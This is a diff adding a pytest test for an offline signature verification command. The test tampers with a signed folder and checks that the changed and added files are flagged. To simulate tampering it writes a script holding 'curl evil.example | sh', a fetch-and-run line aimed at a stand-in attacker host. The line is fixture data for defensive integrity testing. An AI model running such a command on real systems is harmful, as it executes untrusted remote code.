@@ -56,6 +56,21 @@ def test_it_verifies_with_the_network_off(certified: Stack, carried: Path) -> No
     assert done.stdout.splitlines()[-1] == "verified"
 
 
+@pytest.mark.parametrize("named", ["carried", "carried/image"])
+def test_verify_names_a_file_of_the_folder_that_is_not_as_it_was_signed(
+    command: Command, certified: Stack, carried: Path, keys: Keys, named: str
+) -> None:
+    asked = ("verify", str(carried.parent / named), "--offline", "--key", str(keys.public))
+    assert command(certified.root, *asked).code == 0
+    (carried / "load").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    (carried / "smoke" / "outcome").mkdir()
+    (carried / "smoke" / "outcome" / "__init__.pyc").touch()
+    answer = command(certified.root, *asked)
+    assert answer.code == 1
+    assert "doubt: load was changed" in answer.out
+    assert "doubt: smoke/outcome/__init__.pyc was added" in answer.out
+
+
 # A Docker that notes what it is told, and knows the images that it is given by a file.
 DOCKER = """\
 #!/bin/sh
